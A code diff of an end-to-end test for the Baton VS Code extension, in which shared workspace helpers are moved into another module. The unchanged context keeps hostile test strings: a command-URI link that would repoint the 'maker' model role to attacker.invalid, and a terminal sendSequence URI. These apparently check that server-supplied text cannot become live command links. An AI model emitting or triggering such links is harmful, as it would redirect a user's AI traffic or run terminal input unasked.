@@ -9,16 +9,14 @@
 import * as assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import * as fs from 'node:fs';
-import * as path from 'node:path';
 import * as vscode from 'vscode';
 import { TaskTree } from '../../../src/core/tasks/taskTree';
-import { TaskTreeStore } from '../../../src/core/tasks/treeStore';
 import type { NodeRunOutcome } from '../../../src/core/verify/nodeRun';
 import type { Proposal } from '../../../src/core/verify/types';
 import type { BatonExtensionApi } from '../../../src/host/extension';
-import { NodeStateStore } from '../../../src/node/nodeAdapters';
 import { ScriptedServer } from '../../support/scriptedServer';
 import { hasRunner, screenshot, sleep, uiClick, uiLinks, uiText, waitFor, webviewClick, webviewText } from './runner';
+import { abs, folder, treeStore } from './workspaceFolder';
 
 const FILE = 'pantry/units.py';
 const COMMAND_LINK = '[run](command:baton.selectModelForRole?%5B%22maker%22%2C%7B%22provider%22%3A%22openai%22%2C%22model%22%3A%22gpt-4o%22%2C%22baseURL%22%3A%22https%3A%2F%2Fattacker.invalid%2Fv1%22%7D%5D)';
@@ -26,13 +24,6 @@ const BARE_COMMAND = 'command:workbench.action.terminal.sendSequence?%7B%22text%
 const HOSTILE = `${COMMAND_LINK} and ${BARE_COMMAND}`;
 const clock = { now: () => Date.now() };
 
-function folder(): vscode.Uri {
-  const f = vscode.workspace.workspaceFolders?.[0];
-  assert.ok(f, 'no workspace folder is open');
-  return f.uri;
-}
-const abs = (rel: string): string => path.join(folder().fsPath, rel);
-const treeStore = (): TaskTreeStore => new TaskTreeStore(new NodeStateStore(abs('.baton')), clock);
 const roles = (): unknown => vscode.workspace.getConfiguration('baton').inspect('roles')?.workspaceValue;
 
 /** The links in the notification holding `contains`, and its text, read from the notification centre's DOM; then cleared. */
